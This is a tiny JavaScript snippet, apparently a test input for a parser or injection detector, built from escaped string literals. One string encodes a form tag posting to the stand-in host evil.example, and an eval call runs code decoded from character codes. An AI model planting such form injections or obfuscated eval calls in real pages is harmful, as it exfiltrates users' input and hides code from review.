var a = "\x3cform action=\u0027https://evil.example/\u{1F600}\u0027\x3e\
"; var s = 'a' + "b" + `c${d}e`; eval(String.fromCharCode.apply(null, [108,111,99]));